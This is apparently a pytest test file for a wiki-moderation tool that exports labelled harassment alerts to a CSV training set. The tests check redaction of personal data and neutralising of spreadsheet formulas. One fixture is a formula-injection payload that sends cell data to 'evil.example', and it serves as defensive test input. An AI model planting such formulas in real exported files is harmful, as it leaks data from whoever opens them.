"""``rcwatch alerts export-labels``: verdicts become training rows, the text fetched again
from the wiki (the local MediaWiki stand-in), personal data redacted, hidden revisions and
pattern rules left out; the CSV trains a model."""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import sys
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from sinks.alert import Alert, Evidence, alert_id
from sinks.store import AlertStore
from streams.commands.model_data import read_labeled_csv
from streams.standins.fake_mediawiki import FakeMediaWiki
from tests.conftest import REPO

HOST = "en.wikipedia.org"


def _alert(n: int, rule: str, field: str = "added_text", **changes: object) -> Alert:
    alert = Alert(
        id=alert_id(rule, "enwiki", f"rev:{n}"), rule=rule, category="harassment",
        severity="high", wiki="enwiki", title=f"User talk:Victim {n}",
        page_url=f"https://{HOST}/wiki/User_talk:Victim_{n}",
        diff_url=f"https://{HOST}/w/index.php?diff={1000 + n}&oldid={900 + n}",
        performer="Someone", performer_kind="registered", event_id=f"e{n}",
        event_time=f"2026-05-05T11:17:{n:02d}Z", detected_at="2026-05-05T11:18:00Z",
        reason="test", evidence=(Evidence(field, "term", "i***t", 1.0),), change_type="edit",
        rev_id=1000 + n,
    )  # fmt: skip
    return dataclasses.replace(alert, **changes)  # type: ignore[arg-type]


@pytest.fixture
async def wiki() -> AsyncIterator[FakeMediaWiki]:
    api = FakeMediaWiki()
    await api.start()
    try:
        yield api
    finally:
        await api.stop()


async def _cli(*args: str) -> tuple[int, str]:
    proc = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "streams", *args, cwd=REPO,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
    )  # fmt: skip
    out, _ = await proc.communicate()
    return proc.returncode or 0, out.decode()


async def test_verdicts_export_as_redacted_rows_in_the_trainers_format(
    wiki: FakeMediaWiki, tmp_path: Path
) -> None:
    texts = {
        1: "you are a complete idiot, call me at +1 415 867 5309",
        2: "thanks for fixing the citation, much appreciated",
        3: "you idiot",  # hidden since: not exported
        4: "you moron",  # unsure: not exported
        5: "idiot idiot",  # a pattern rule's alert: not exported
        6: "fine text",  # found in the summary, not the added text: not exported
    }
    for n, text in texts.items():
        wiki.add_edit(HOST, 900 + n, 1000 + n, "old line", f"old line\n{text}", title=f"T{n}")
    wiki.hide_revision(HOST, 1003)
    alerts = {
        1: _alert(1, "harassment.targeted-insult"),
        2: _alert(2, "harassment.targeted-insult"),
        3: _alert(3, "harassment.targeted-insult"),
        4: _alert(4, "harassment.targeted-insult"),
        5: _alert(5, "pattern.harassment-spree"),
        6: _alert(6, "harassment.insult-in-summary", field="summary"),
        7: _alert(7, "privacy.phone-added", category="privacy"),  # not harassment
    }
    verdicts = {1: "true", 2: "false", 3: "true", 4: "unsure", 5: "true", 6: "true", 7: "true"}
    state = tmp_path / "state"
    store = AlertStore(state / "alerts.db")
    store.add(a.to_dict() for a in alerts.values())
    for n, v in verdicts.items():
        store.verdict(alerts[n].id, v, None, "me")
    store.close()

    out = tmp_path / "labels.csv"
    code, said = await _cli(
        "alerts", "export-labels", "--state-dir", str(state), "--api-url",
        wiki.api_url_template, "--out", str(out),
    )  # fmt: skip
    assert code == 0, said
    rows = list(csv.DictReader(out.open()))
    assert [(r["label"], r["alert_id"]) for r in rows] == [
        ("1", alerts[1].id), ("0", alerts[2].id)
    ]  # fmt: skip
    assert "idiot" in rows[0]["text"] and "867 5309" not in rows[0]["text"]  # redacted
    assert rows[1]["text"] == texts[2]
    assert "2 row(s) (1 true, 1 false) from 5 judged alert(s)" in said
    assert "left out: 1 (pattern rule)" in said
    assert "left out: 1 (text not available" in said
    assert "left out: 1 (found in a summary" in said
    assert out.stat().st_mode & 0o077 == 0

    # the trainer's reader takes it as it is (model train --csv)
    examples, record = read_labeled_csv(out)
    assert [(e.text, e.label) for e in examples] == [(r["text"], int(r["label"])) for r in rows]
    assert record.positives == 1


async def test_every_recognizer_redacts_and_a_text_not_read_to_the_end_is_left_out(
    wiki: FakeMediaWiki, tmp_path: Path
) -> None:
    """Issue 20, item 2: a date of birth and an IP address went out as they were (only the
    fingerprint kinds were redacted), and so did a phone number after 1,200 decoy digits
    (the phone recognizer's budget ran out). Item 3: text opening with ``=``, ``+``, ``-``
    or ``@`` went out as a spreadsheet formula."""
    texts = {
        1: "you idiot, born 12 May 1990, everyone knows",
        2: "you idiot, my IP is 81.2.69.160 and yours too",
        3: "you idiot " + "1 " * 1200 + " call me at +1 415 867 5309",
        4: '=HYPERLINK("https://evil.example/?"&A1,"click") you idiot',
        5: "+1 415 867 5309 is where the idiot lives",
        6: "-- you idiot",
        7: "@admin this idiot again",
    }
    for n, text in texts.items():
        wiki.add_edit(HOST, 900 + n, 1000 + n, "old line", f"old line\n{text}", title=f"T{n}")
    alerts = {n: _alert(n, "harassment.targeted-insult") for n in texts}
    state = tmp_path / "state"
    store = AlertStore(state / "alerts.db")
    store.add(a.to_dict() for a in alerts.values())
    for a in alerts.values():
        store.verdict(a.id, "true", None, "me")
    store.close()

    out = tmp_path / "labels.csv"
    code, said = await _cli(
        "alerts", "export-labels", "--state-dir", str(state), "--api-url",
        wiki.api_url_template, "--out", str(out),
    )  # fmt: skip
    assert code == 0, said
    written = out.read_text()
    for private in ("1990", "12 May", "81.2.69.160", "867 5309", "5309"):
        assert private not in written
    by_id = {r["alert_id"]: r["text"] for r in csv.DictReader(out.open())}
    assert alerts[3].id not in by_id  # not read to the end: left out, and counted
    assert "left out: 1 (too many candidates to check for personal data)" in said
    assert "6 row(s)" in said
    assert by_id[alerts[1].id] == "you idiot, born **/**/199*, everyone knows"
    assert by_id[alerts[2].id] == "you idiot, my IP is *.*.*.* and yours too"
    assert by_id[alerts[4].id].startswith("'=HYPERLINK(")
    assert by_id[alerts[5].id].startswith("'+")
    assert by_id[alerts[6].id] == "'-- you idiot"
    assert by_id[alerts[7].id] == "'@admin this idiot again"


def test_a_cell_a_spreadsheet_would_run_gets_a_quote_before_it() -> None:
    from streams.commands.labels import csv_cell

    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(formula) == "'" + formula
    assert csv_cell("you idiot = 1") == "you idiot = 1"
    assert csv_cell("'quoted") == "'quoted"
